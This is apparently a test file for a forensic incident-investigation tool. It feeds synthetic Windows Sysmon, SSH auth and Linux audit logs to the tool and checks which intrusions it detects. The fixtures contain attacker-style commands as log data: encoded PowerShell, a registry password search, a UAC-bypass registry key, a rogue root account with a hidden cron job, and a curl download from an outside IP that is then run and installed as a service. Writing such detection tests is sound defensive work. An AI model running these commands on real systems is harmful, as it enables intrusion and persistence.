// What single leads see and what they leave alone, on logs made for it: Windows events as one JSON object a line.
import { strict as assert } from 'node:assert';
import { spawnSync } from 'node:child_process';
import { mkdirSync, readFileSync, utimesSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { test } from 'node:test';
import type { IncidentDocument } from '../src/incident/index.js';
import { ROOT, tempDir } from './support.js';

const CLI = join(ROOT, 'dist', 'src', 'cli', 'main.js');
const dir = tempDir();
const SYSMON = 'Microsoft-Windows-Sysmon/Operational';
const START = Date.UTC(2024, 2, 5, 8, 0, 0);

type Event = Readonly<Record<string, string | number>>;

let n = 0;
/** Investigates files by their name and text; all were last written on one day. */
function ofFiles(files: Readonly<Record<string, string>>): IncidentDocument {
  const at = join(dir, String(n++));
  for (const [name, text] of Object.entries(files)) {
    const path = join(at, 'evidence', name);
    mkdirSync(dirname(path), { recursive: true });
    writeFileSync(path, text);
    utimesSync(path, START / 1000 + 20 * 86_400, START / 1000 + 20 * 86_400);
  }
  const r = spawnSync(
    process.execPath,
    [CLI, 'investigate', join(at, 'evidence'), '--out', join(at, 'case'), '--quiet', '--threads', '1'],
    { encoding: 'utf8', env: { ...process.env, BACKTRAIL_CACHE: join(dir, 'cache') } },
  );
  assert.equal(r.status, 0, r.stderr);
  return JSON.parse(readFileSync(join(at, 'case', 'incident.json'), 'utf8')) as IncidentDocument;
}
const investigated = (events: readonly Event[]): IncidentDocument =>
  ofFiles({ 'events.json': events.map((e) => `${JSON.stringify(e)}\n`).join('') });

const iso = (seconds: number): string => new Date(START + seconds * 1000).toISOString();
const sysmon = (id: number, seconds: number, host: string, data: Event): Event => ({
  '@timestamp': iso(seconds),
  Hostname: host,
  Channel: SYSMON,
  SourceName: 'Microsoft-Windows-Sysmon',
  EventID: id,
  UtcTime: iso(seconds).replace('T', ' ').replace('Z', ''),
  ...data,
});
const guid = (host: string, pid: number): string =>
  `{${Buffer.from(host.padEnd(4)).toString('hex').slice(0, 8)}-0000-65e6-0000-${String(pid).padStart(12, '0')}}`;
function started(
  host: string,
  seconds: number,
  pid: number,
  image: string,
  line: string,
  above: [number, string],
): Event {
  return sysmon(1, seconds, host, {
    ProcessGuid: guid(host, pid),
    ProcessId: pid,
    Image: image,
    CommandLine: line,
    User: 'CORP\\alice',
    LogonId: '0x5f001',
    ParentProcessGuid: guid(host, above[0]),
    ParentProcessId: above[0],
    ParentImage: above[1],
  });
}
const POWERSHELL = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
const EXPLORER: [number, string] = [900, 'C:\\Windows\\explorer.exe'];
const S32 = 'C:\\Windows\\System32\\';
const looks = (host: string, at: number, above: [number, string]): Event[] =>
  ['whoami', 'ipconfig', 'nltest'].map((c, i) =>
    started(host, at + i * 20, 2000 + i, `${S32}${c}.exe`, `${c}.exe`, above),
  );

test('somebody looks around under a shell whose command cannot be read; a script of the house is on many machines', () => {
  const line = `powershell.exe -nop -enc ${'QQBCAEMA'.repeat(12)}`;
  const story = (host: string): Event[] => [
    started(host, 10, 1500, POWERSHELL, line, EXPLORER),
    ...looks(host, 60, [1500, POWERSHELL]),
  ];
  const one = investigated(story('ws1.corp.example'));
  assert.deepEqual(
    one.incidents.map((i) => i.hosts.map((h) => `${h.name} ${h.status}`)),
    [['ws1.corp.example controlled']],
  );
  const house = investigated(['ws1', 'ws2', 'ws3', 'ws4'].flatMap((h) => story(`${h}.corp.example`)));
  assert.equal(house.incidents.length, 0);
  const open = investigated([
    started('ws1.corp.example', 10, 1500, POWERSHELL, 'powershell.exe -File C:\\Scripts\\inventory.ps1', EXPLORER),
    ...looks('ws1.corp.example', 60, [1500, POWERSHELL]),
  ]);
  assert.equal(open.incidents.length, 0);
});

test('code put into a process that ran before the logs begin, and what that process did then', () => {
  const host = 'ws1.corp.example';
  const story = (image: string): Event[] => [
    // The same service reads the same memory before: that was not the intruder.
    sysmon(10, 1, host, {
      SourceProcessGUID: guid(host, 700),
      SourceProcessId: 700,
      SourceImage: `${S32}svchost.exe`,
      TargetProcessGUID: guid(host, 600),
      TargetProcessId: 600,
      TargetImage: `${S32}lsass.exe`,
      GrantedAccess: '0x1010',
    }),
    started(host, 10, 1500, image, `"${image}"`, EXPLORER),
    sysmon(8, 20, host, {
      SourceProcessGuid: guid(host, 1500),
      SourceProcessId: 1500,
      SourceImage: image,
      TargetProcessGuid: guid(host, 700),
      TargetProcessId: 700,
      TargetImage: `${S32}svchost.exe`,
    }),
    sysmon(10, 30, host, {
      SourceProcessGUID: guid(host, 700),
      SourceProcessId: 700,
      SourceImage: `${S32}svchost.exe`,
      TargetProcessGUID: guid(host, 600),
      TargetProcessId: 600,
      TargetImage: `${S32}lsass.exe`,
      GrantedAccess: '0x1010',
    }),
  ];
  const d = investigated(story('C:\\Users\\alice\\Downloads\\reader.exe'));
  assert.equal(d.incidents.length, 1);
  assert.deepEqual(
    d.incidents[0]!.timeline.filter((t) => t.technique === 'T1003.001').map((t) => t.time!.slice(11, 19)),
    ['08:00:30'],
  );
  assert.equal(investigated(story('C:\\Program Files\\Sensor\\sensor.exe')).incidents.length, 0);
});

test('two rules of the level high under one program are a lead, one is not', () => {
  const host = 'ws1.corp.example';
  const own = 'C:\\Users\\alice\\AppData\\Local\\helper.exe';
  const dump = started(host, 40, 1501, `${S32}reg.exe`, 'reg.exe query HKLM /f password /t REG_SZ /s', [1500, own]);
  const raised = sysmon(13, 50, host, {
    ProcessGuid: guid(host, 1500),
    ProcessId: 1500,
    Image: own,
    EventType: 'SetValue',
    TargetObject: 'HKU\\S-1-5-21-1-2-3-1001_Classes\\ms-settings\\shell\\open\\command\\(Default)',
    Details: 'C:\\Users\\alice\\AppData\\Local\\helper.exe',
  });
  const pipe = sysmon(1, 60, host, {
    ProcessGuid: guid(host, 1502),
    ProcessId: 1502,
    Image: POWERSHELL,
    CommandLine:
      "powershell.exe -c $s=New-Object IO.MemoryStream(,[Convert]::FromBase64String('AAAA'));New-Object IO.Compression.GzipStream($s,0)",
    User: 'CORP\\alice',
    ParentProcessGuid: guid(host, 1500),
    ParentProcessId: 1500,
    ParentImage: own,
  });
  const first = started(host, 10, 1500, own, own, EXPLORER);
  assert.equal(investigated([first, dump, raised]).incidents.length, 0);
  const both = investigated([first, dump, raised, pipe]);
  assert.equal(both.incidents.length, 1);
  assert.ok(both.incidents[0]!.timeline.some((t) => t.text.includes('"high"')));
});

test('a service that a rule of the level critical knows is a lead where no process of it is logged', () => {
  const d = investigated([
    {
      '@timestamp': iso(5),
      Hostname: 'srv1.corp.example',
      Channel: 'System',
      SourceName: 'Service Control Manager',
      EventID: 7045,
      ServiceName: 'kqwzrt',
      ImagePath: 'cmd.exe /c echo kqwzrt > \\\\.\\pipe\\kqwzrt',
      ServiceType: 'user mode service',
      StartType: 'demand start',
      AccountName: 'LocalSystem',
    },
  ]);
  assert.deepEqual(
    d.incidents.map((i) => i.hosts.map((h) => [h.name, h.status, h.confidence])),
    [[['srv1.corp.example', 'controlled', 'moderate']]],
  );
  assert.equal(d.incidents[0]!.confidence, 'moderate', 'a rule and a detector that go by one record are one witness');
});

test('times that say UTC and are not are set right by the UtcTime beside them, also where a clock of twelve hours goes over', () => {
  const host = 'ws1.corp.example';
  // Local time seven hours behind, printed with a Z; from 13:00 on the hours begin at 1 again.
  const wall = (seconds: number): string => {
    const local = new Date(START + seconds * 1000 - 7 * 3600e3);
    const h = local.getUTCHours() % 12 === 0 ? 12 : local.getUTCHours() % 12;
    return `${local.toISOString().slice(0, 11)}${String(h).padStart(2, '0')}${local.toISOString().slice(13)}`;
  };
  const events = Array.from({ length: 4000 }, (_, i): Event => {
    const at = 17_000 + i * 15;
    return i % 3 === 0
      ? {
          '@timestamp': wall(at),
          Hostname: host,
          Channel: 'Security',
          SourceName: 'Microsoft-Windows-Security-Auditing',
          EventID: 4634,
          TargetLogonId: iso(at),
        }
      : {
          ...sysmon(5, at, host, { ProcessId: i, Image: `${S32}a.exe`, Note: 'x'.repeat(200) }),
          '@timestamp': wall(at),
        };
  });
  const d = investigated(events);
  const e = d.evidence[0]!;
  assert.deepEqual(e.times, { stated: 0, given: 0, inferred: 4000, none: 0 });
  assert.equal(e.first, iso(17_000).replace('.000Z', '.000000Z'));
  assert.equal(e.last, iso(17_000 + 3999 * 15).replace('.000Z', '.000000Z'));
  assert.deepEqual(
    [...new Set(e.time_shifts!.map((s) => s.minutes))].sort((a, b) => a - b),
    [420, 1140],
  );
  assert.ok(e.problems.some((p) => p.what.includes('+7 h and +19 h') || p.what.includes('+19 h and +7 h')));
  // Where both times agree nothing is touched.
  const right = investigated(
    events.map((x) => ({
      ...x,
      '@timestamp': x.UtcTime === undefined ? String(x.TargetLogonId) : `${String(x.UtcTime).replace(' ', 'T')}Z`,
    })),
  );
  assert.equal(right.evidence[0]!.time_shifts, undefined);
  assert.equal(right.evidence[0]!.times!.stated, 4000);
});

test('records of an export that stand in another order are no hole; a missing number is', () => {
  const numbered = (order: readonly number[]): Event[] =>
    order.map((k) => ({
      ...sysmon(5, k, 'ws1.corp.example', { ProcessId: k, Image: `${S32}a.exe` }),
      RecordNumber: 5000 + k,
    }));
  const all = Array.from({ length: 400 }, (_, i) => i);
  const mixed = [...all];
  for (const i of [50, 120, 300]) [mixed[i], mixed[i + 3]] = [mixed[i + 3]!, mixed[i]!];
  const gaps = (d: IncidentDocument): string[] =>
    d.overview.anti_forensics.filter((a) => a.kind === 'record_gap').map((a) => a.what);
  assert.deepEqual(gaps(investigated(numbered(mixed))), []);
  assert.equal(gaps(investigated(numbered(mixed.filter((k) => k !== 200 && k !== 201)))).length, 1);
});

test('a session by SSH: what was run as another user in it, an account, a job that begins, and where the account went next', () => {
  const MONTHS = ['Jan', 'Feb', 'Mar', 'Apr'];
  const line = (seconds: number, host: string, text: string): [number, string] => {
    const t = new Date(START + seconds * 1000);
    const day = String(t.getUTCDate()).padStart(2, ' ');
    return [seconds, `${MONTHS[t.getUTCMonth()]} ${day} ${t.toISOString().slice(11, 19)} ${host} ${text}`];
  };
  const hourly = (host: string): [number, string][] =>
    Array.from({ length: 120 }, (_, i) =>
      line(i * 3600 + 17, host, `CRON[${1000 + i}]: (root) CMD (   cd / && run-parts --report /etc/cron.hourly)`),
    );
  const alice = (host: string): [number, string][] =>
    [0, 1, 2, 3].map((d) =>
      line(
        d * 86_400 + 3600,
        host,
        `sshd[${400 + d}]: Accepted publickey for alice from 10.0.5.20 port ${50_000 + d} ssh2`,
      ),
    );
  const at = 4 * 86_400 + 60_000;
  const web = [
    ...hourly('web01'),
    ...alice('web01'),
    ...Array.from({ length: 40 }, (_, i) =>
      line(
        at + i * 3,
        'web01',
        `sshd[${2000 + i}]: Failed password for deploy from 203.0.113.77 port ${41_000 + i} ssh2`,
      ),
    ),
    line(at + 200, 'web01', 'sshd[2500]: Accepted password for deploy from 203.0.113.77 port 42001 ssh2'),
    line(at + 260, 'web01', 'sudo:   deploy : TTY=pts/1 ; PWD=/home/deploy ; USER=root ; COMMAND=/bin/bash'),
    line(
      at + 320,
      'web01',
      'useradd[2600]: new user: name=sysupdate, UID=0, GID=0, home=/home/sysupdate, shell=/bin/bash',
    ),
    ...Array.from({ length: 20 }, (_, i) =>
      line(at + 900 + i * 600, 'web01', `CRON[${3000 + i}]: (root) CMD (/usr/local/bin/.kworker)`),
    ),
    // Somebody of the house: not the intruder.
    line(at + 5000, 'web01', 'sudo:    alice : TTY=pts/2 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/apt upgrade'),
  ];
  const db = [
    ...hourly('db01'),
    ...alice('db01'),
    line(at + 700, 'db01', 'sshd[900]: Accepted password for deploy from 10.0.6.10 port 51000 ssh2'),
    line(
      at + 740,
      'db01',
      'sudo:   deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=/usr/bin/mysqldump --all-databases',
    ),
  ];
  const text = (lines: [number, string][]): string =>
    lines
      .sort((a, b) => a[0] - b[0])
      .map((l) => `${l[1]}\n`)
      .join('');
  const d = ofFiles({ 'web01/auth.log': text(web), 'db01/auth.log': text(db) });
  assert.equal(d.incidents.length, 1);
  const i = d.incidents[0]!;
  assert.deepEqual([i.entry!.vector, i.entry!.host, i.entry!.source_ip], ['ssh', 'web01', '203.0.113.77']);
  assert.deepEqual(i.hosts.map((h) => `${h.name} ${h.status} ${h.confidence}`).sort(), [
    'db01 controlled moderate',
    'web01 controlled high',
  ]);
  assert.deepEqual(i.accounts.map((a) => `${a.name} ${a.status}`).sort(), ['deploy abused', 'sysupdate created']);
  assert.deepEqual(i.persistence.map((p) => `${p.kind} ${p.name}`).sort(), [
    'account sysupdate',
    'scheduled_task /usr/local/bin/.kworker',
  ]);
  assert.deepEqual(
    i.sessions.map((s) => [s.source_ip, s.channel, s.end!.slice(11, 19)]),
    [['203.0.113.77', 'ssh', new Date(START + (at + 260) * 1000).toISOString().slice(11, 19)]],
    'a session from inside is no attack session, and one lasts as long as what is done in it',
  );
  assert.ok(!i.timeline.some((t) => t.text.includes('apt upgrade')));
});

test('Linux audit: a web server starts shells, what command lines lay runs, a unit stays, and by SSH to a machine of another zone', () => {
  let serial = 100;
  const head = (seconds: number): string => `msg=audit(${(START / 1000 + seconds).toFixed(3)}:${++serial}):`;
  const ids = (ppid: number, pid: number, uid: number): string =>
    `ppid=${ppid} pid=${pid} auid=4294967295 uid=${uid} gid=${uid} euid=${uid} tty=(none) ses=4294967295`;
  const exec = (
    seconds: number,
    ppid: number,
    pid: number,
    uid: number,
    exe: string,
    args: readonly string[],
  ): string => {
    const m = head(seconds);
    const words = args.map(
      (a, i) => `a${i}=${/[\s"]/.test(a) ? Buffer.from(a).toString('hex').toUpperCase() : `"${a}"`}`,
    );
    return `type=SYSCALL ${m} arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=0 items=1 ${ids(ppid, pid, uid)} comm="x" exe="${exe}" key="exec"\ntype=EXECVE ${m} argc=${args.length} ${words.join(' ')}\n`;
  };
  const wrote = (seconds: number, ppid: number, pid: number, uid: number, exe: string, path: string): string => {
    const m = head(seconds);
    return `type=SYSCALL ${m} arch=c000003e syscall=257 success=yes exit=3 a0=ffffff9c a1=7f a2=241 a3=1b6 items=1 ${ids(ppid, pid, uid)} comm="x" exe="${exe}" key="w"\ntype=PATH ${m} item=0 name="${path}" inode=1 nametype=CREATE\n`;
  };
  const sh = (seconds: number, pid: number, line: string, tool: string): string =>
    exec(seconds, 700, pid, 998, '/usr/bin/dash', ['/bin/sh', '-c', line]) +
    exec(seconds + 0.01, pid, pid + 1, 998, tool, line.split(' '));
  const audit =
    wrote(0, 1, 700, 998, '/usr/lib/jvm/java-11/bin/java', '/opt/app/webapps/app/help/e.jsp') +
    sh(60, 1000, 'id', '/usr/bin/id') +
    sh(90, 1010, 'curl -s http://203.0.113.9/u -o /var/tmp/upd', '/usr/bin/curl') +
    exec(120, 1, 1020, 0, '/var/tmp/upd', ['/var/tmp/upd']) +
    exec(150, 1020, 1030, 0, '/usr/bin/tee', ['tee', '/etc/systemd/system/upd.service']) +
    wrote(150.1, 1020, 1030, 0, '/usr/bin/tee', '/etc/systemd/system/upd.service') +
    exec(596, 1020, 1040, 0, '/usr/bin/ssh', ['ssh', '-o', 'BatchMode=no', 'dba@10.0.0.6']);
  const stamp = (seconds: number): string => {
    const t = new Date(START + seconds * 1000 + 3600e3);
    return `Mar  5 ${t.toISOString().slice(11, 19)}`;
  };
  const secure =
    `${stamp(-3000)} db01 sshd[400]: Accepted publickey for alice from 10.0.0.9 port 40010 ssh2\n` +
    `${stamp(600)} db01 sshd[500]: Accepted password for dba from 10.0.0.5 port 40000 ssh2\n`;
  const hosts = '127.0.0.1 localhost\n10.0.0.5 web01.corp.example web01\n10.0.0.6 db01.corp.example db01\n';
  const d = ofFiles({
    'web01/var/log/audit/audit.log': audit,
    'web01/etc/hosts': hosts,
    'db01/var/log/secure': secure,
    'db01/live_response/timedatectl.txt': '                Time zone: Europe/Stockholm (CET, +0100)\n',
  });
  assert.equal(d.incidents.length, 1);
  const i = d.incidents[0]!;
  assert.deepEqual(
    i.hosts
      .filter((h) => h.status === 'controlled')
      .map((h) => h.name.split('.')[0])
      .sort(),
    ['db01', 'web01'],
  );
  assert.deepEqual(
    i.lateral_movement.map((m) => [m.from.split('.')[0], m.to.split('.')[0], m.method, m.time]),
    [['web01', 'db01', 'ssh', iso(600).replace('.000Z', '.000000Z')]],
  );
  assert.ok(i.persistence.some((p) => p.kind === 'service' && p.name === 'upd'));
  assert.ok(i.accounts.some((a) => a.name.endsWith('dba')) && !i.accounts.some((a) => a.name.endsWith('alice')));
  assert.equal(i.entry?.technique, 'T1190');
});
